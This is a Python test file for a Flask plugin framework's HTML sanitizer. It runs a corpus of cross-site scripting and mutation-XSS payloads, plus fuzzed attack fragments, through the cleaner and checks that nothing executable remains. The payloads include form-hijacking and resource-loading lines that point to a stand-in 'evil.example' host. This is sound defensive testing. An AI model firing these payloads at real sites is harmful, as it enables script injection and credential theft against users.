"""HTML of isolated plugins in the site's pages: an attack corpus, and whatever Hypothesis finds."""

from __future__ import annotations

import sys
from html.parser import HTMLParser

import nh3
import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from flask_pluginkit.exceptions import MissingExtraError
from flask_pluginkit.isolation.answers.fragments import (
    ATTRIBUTES,
    LONGEST,
    MOST_TAGS,
    TAGS,
    cleaner,
)
from flask_pluginkit.isolation.answers.own import AnswerError

clean = cleaner("hello", frozenset(), "isolated")

ALLOWED = {tag: ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()) for tag in TAGS}
VOID = {"br", "col", "hr", "img", "wbr"}


class Judge(HTMLParser):
    """Reads HTML in another way than nh3, and notes all that must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        self.faults += [f"open {tag}" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(tag)
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            self._judge(tag, name, value or "")

    def _judge(self, tag: str, name: str, value: str) -> None:
        if name not in ALLOWED.get(tag, frozenset()) | {"rel"}:
            self.faults.append(f"{tag} {name}")
        if name in {"id", "class"} and not all(v.startswith("hello-") for v in value.split()):
            self.faults.append(f"{name}={value}")
        bare = "".join(c for c in value if c > " ").lower()
        if name == "src" and not bare.startswith("/assets/hello/"):
            self.faults.append(f"src={value}")
        if name == "href" and bare.startswith(("javascript:", "data:", "vbscript:")):
            self.faults.append(f"href={value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data}")


class InAttribute(HTMLParser):
    """Notes the attributes of the first element."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.first: list[tuple[str, str | None]] | None = None
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.first is None:
            self.first = attrs


CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example></ScRiPt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=x ping=//evil.example target=_top download>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img onerror=x&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=//evil.example><input name=password type=password><button>x</button></form>",
    "<form id=a><form id=b><input name=attributes>",
    "<input form=login formaction=//evil.example type=submit>",
    "<isindex action=//evil.example>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "</textarea><script>alert(1)</script>",
    "</title></style></script><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><style>*{display:none}</style></template>",
    "<plaintext><script>alert(1)</script>",
    "<object data=//evil.example></object><embed src=//evil.example><applet code=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=dns-prefetch href=//secret.evil.example>",
    "<style>@import '//evil.example'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<body onload=alert(1) background=//evil.example>",
    "<table background=//evil.example><td background=//evil.example>x</table>",
    "<img srcset='//evil.example 1x' src=/assets/hello/a.png>",
    "<img src=//evil.example/assets/hello/a.png>",
    "<img src=/assets/hello/../../logout>",
    "<img src=/assets/hello/..%2f..%2flogout>",
    "<img src=/assets/hello/%2E%2E/secret.png>",
    "<img src='/assets/hello/\\..\\..\\logout'>",
    "<img src=/assets/other/a.png>",
    "<img src=/assets/hello//evil.example/a.png>",
    "<img src=data:image/svg+xml,x>",
    "<video src=//evil.example poster=//evil.example><audio src=x><source src=x><track src=x>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<a id=location name=cookie>x</a><img name=body><p id=hello-ok>x",
    "<p class='btn btn-danger hello-x modal'>x</p>",
    "<div data-toggle=modal data-controller=x hx-get=/admin hx-on:click=x @click=x>x</div>",
    "<div is=evil-element slot=x part=y contenteditable autofocus tabindex=1 accesskey=x>x</div>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<!-- unclosed <img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><?php <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html><html><head></head><body>x",
    "</div></div></body></html><script>alert(1)</script>",
    "</p></td></tr></table>x",
    "<div><div><div>unclosed <b><i>x",
    "<b><p></b><i></p>x</i>",
    "<table><tr><td><div></table></div>x",
    "<a href=x><a href=y><table><a href=z>x</table>",
    '<p title="a>b<c onmouseover=alert(1) \'">x</p>',
    "<p title='x\" onmouseover=alert(1) y=\"'>x</p>",
    "<p/onclick=alert(1)/>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "<p\0 onclick=alert(1)>x</p>",
    "\0<script\0>alert(1)</script\0>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\u2028<img src=x onerror=alert(1)>\ufeff",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)><command onclick=x>",
    "<frameset onload=alert(1)><frame src=//evil.example>",
    "<font color=red face=x>x</font><center>x</center>",
]


@pytest.mark.parametrize("attack", CORPUS)
def test_an_attack_leaves_nothing_that_acts(attack: str) -> None:
    """Another parser finds allowed elements and attributes only, balanced, and no comments."""
    assert Judge(clean(attack)).faults == []


@pytest.mark.parametrize("attack", CORPUS)
def test_what_was_cleaned_is_clean(attack: str) -> None:
    """Read once more by the parser of browsers, nothing becomes something else (mutation)."""
    once = clean(attack)
    handlers = {"onclick", "onerror", "onload", "onmouseover", "style", "formaction", "srcdoc"}
    lenient = nh3.clean(
        once,
        tags={*TAGS, "script", "style", "svg", "math", "form", "input", "iframe", "textarea"},
        clean_content_tags=set(),
        attributes={tag: {*names, *handlers, "rel"} for tag, names in ALLOWED.items()},
        link_rel=None,
    )
    assert Judge(lenient).faults == []
    assert clean(once) == once


@pytest.mark.parametrize(
    "attack",
    [
        "<li><button><li>x</li></button></li>",
        "<h1><button><h2>x</h2></button></h1>",
        "<p><button><div>x</div></button></p>",
        "<a href=x><a href=y><table><a href=z>x</table>",
        "<a href=x><table><td><a href=y>x</table></a>",
        "<p><marquee><p>x</p></marquee></p>",
    ],
)
def test_a_part_closes_no_element_of_the_site(attack: str) -> None:
    """Also where taking an element out changes how the rest is read."""
    for outer in (
        "<div>{}<i>own</i></div>",
        "<table><tbody><tr><td>{}<i>own</i></td></tr></tbody></table>",
        "<blockquote><section>{}<i>own</i></section></blockquote>",
        "<ul><li><section>{}<i>own</i></section></li></ul>",
    ):
        page = outer.format(clean(attack))
        read = nh3.clean(page, attributes={}, tags=set(TAGS), link_rel=None)
        plain = outer.format("")
        assert read.endswith(plain[plain.index("<i>") :])


@pytest.mark.parametrize("attack", CORPUS)
@pytest.mark.parametrize("quote", ['"', "'"])
def test_an_attack_stays_in_a_quoted_attribute(attack: str, quote: str) -> None:
    """A template may put a part into an attribute: no handler of the element comes of it."""
    html = f"<div title={quote}{clean(attack)}{quote} hidden>x</div>"
    names = {name for name, _ in InAttribute(html).first or []}
    assert not {name for name in names if name.startswith("on") and "=" not in name}
    values = [v for name, v in InAttribute(html).first or [] if name != "title" and v]
    assert not any("alert" in value for value in values)


PIECES = st.sampled_from(
    [
        *("<b>", "</b>", "<p class='hello-a b'>", "</p>", "<table>", "<td>", "</table>", "<svg>"),
        *("<style>", "</style>", "<math>", "<mtext>", "</math>", "<title>", "</title>", "<!--"),
        *("-->", "<![CDATA[", "]]>", "<img src=x onerror=alert(1)>", "<a href='javascript:x'>"),
        *("</a>", "<form>", "</form>", "<textarea>", "</textarea>", "<noscript>", "</noscript>"),
        *("<script>", "</script>", '"', "'", "<", ">", "&lt;", "&#60;", "=", " ", "/", "\0", "x"),
        *("onerror=alert(1)", "<p title='", '<p title="', "<template>", "</template>", "<select>"),
        *("<iframe>", "</iframe>", "<mglyph>", "<foreignObject>", "<desc>", "<annotation-xml>"),
    ]
)


@given(st.lists(PIECES | st.text(max_size=6), max_size=14).map("".join))
@settings(max_examples=250, deadline=None)
def test_nothing_that_is_made_of_pieces_acts(html: str) -> None:
    """Whatever order they come in: allowed, balanced, stable, and inside quotes if put there."""
    done = clean(html)
    assert Judge(done).faults == []
    assert clean(done) == done
    for quote in ('"', "'"):
        first = InAttribute(f"<div title={quote}{done}{quote}>").first
        assert not [name for name, value in first or [] if name.startswith("on") and value]


def test_quotes_in_text_are_escaped() -> None:
    """nh3 leaves them, and in an attribute of the template they would end it."""
    assert clean("x\" onmouseover='y") == "x&#34; onmouseover=&#39;y"


def test_what_is_harmless_stays() -> None:
    """Markup, own classes and ids, links and own pictures."""
    html = (
        '<p class="hello-a" id="hello-b" title="t">1 &amp; 2 <b>bold</b> '
        '<img src="/assets/hello/img/a.png" alt="a" width="10"><br></p>'
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    )
    assert clean(html) == html


@pytest.mark.parametrize("url", ["https://a.example/?a=1#b", "/x", "x", "?y", "mailto:a@b.example"])
def test_links_lead_anywhere_and_tell_nobody(url: str) -> None:
    """Their target stays, and is told neither who links nor who opens it."""
    (name, value), (_, rel) = InAttribute(clean(f'<a href="{url}">x</a>')).first or []
    assert (name, value) == ("href", url)
    assert rel == "nofollow noopener noreferrer ugc"


def test_pictures_lie_where_the_application_is_mounted() -> None:
    """Below another path, that path belongs to theirs."""
    app = Flask(__name__)
    html = '<img src="/app/assets/hello/a.png"><img src="/assets/hello/a.png">'
    with app.test_request_context("/", base_url="http://localhost/app/"):
        assert clean(html) == '<img src="/app/assets/hello/a.png"><img>'


def test_a_part_that_was_cleaned_before_is_remembered() -> None:
    """The same object comes back, for the place where the application is mounted."""
    html = "<p>the same on every page</p>"
    assert clean(html) is clean(html)


def test_pictures_of_a_plugin_with_an_odd_name_are_its_own() -> None:
    """Written as text or as in URLs."""
    odd = cleaner("a b", frozenset(), "isolated", assets="/files")
    html = '<img src="/files/a%20b/x.png"><img src="/files/b/x.png">'
    assert odd(html) == '<img src="/files/a%20b/x.png"><img>'


@pytest.mark.parametrize("value", ["99999", "1;x", "-1", "", "10em"])
def test_sizes_are_small_numbers(value: str) -> None:
    """A part isn't larger than the page."""
    assert clean(f'<img width="{value}">') == "<img>"


@pytest.mark.parametrize(
    ("permissions", "level"), [({"html:raw"}, "isolated"), (frozenset(), "process")]
)
def test_who_is_trusted_writes_what_he_wants(permissions: frozenset[str], level: str) -> None:
    """With ``html:raw``, and without a sandbox, HTML passes as it is."""
    html = "<script>x</script>"
    assert cleaner("hello", permissions, level)(html) == Markup(html)


def test_a_part_that_is_too_long_is_a_fault() -> None:
    """Before and after it is cleaned."""
    with pytest.raises(AnswerError):
        clean("x" * (LONGEST + 1))
    with pytest.raises(AnswerError):
        clean("&" * (LONGEST // 2))


@pytest.mark.parametrize("tag", ["<div>", "</p>", "<unknown>"])
def test_too_many_tags_are_a_fault(tag: str) -> None:
    """Nesting costs the parser the square of its depth."""
    with pytest.raises(AnswerError):
        clean(tag * (MOST_TAGS + 1))


def test_formatting_that_multiplies_is_a_fault() -> None:
    """A few kilobytes of unclosed elements would come back in each of thousands of paragraphs."""
    marks = "".join(f"<b/title={number}>" for number in range(400))
    with pytest.raises(AnswerError, match="too many formatting elements"):
        clean(f"<p>{marks}{'<p>x' * 400}")


def test_a_long_list_is_no_fault() -> None:
    """Hundreds of links and formatted words are what honest parts have."""
    row = '<li><a href="/x">a</a> <b>b</b> <i class="hello-i">c</i></li>'
    assert clean(f"<ul>{row * 100}</ul>").count("<li>") == 100


def test_without_nh3_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    """The extra is named."""
    monkeypatch.setitem(sys.modules, "nh3", None)
    with pytest.raises(MissingExtraError, match=r"Flask-PluginKit\[sandbox\]"):
        cleaner("hello", frozenset(), "isolated")
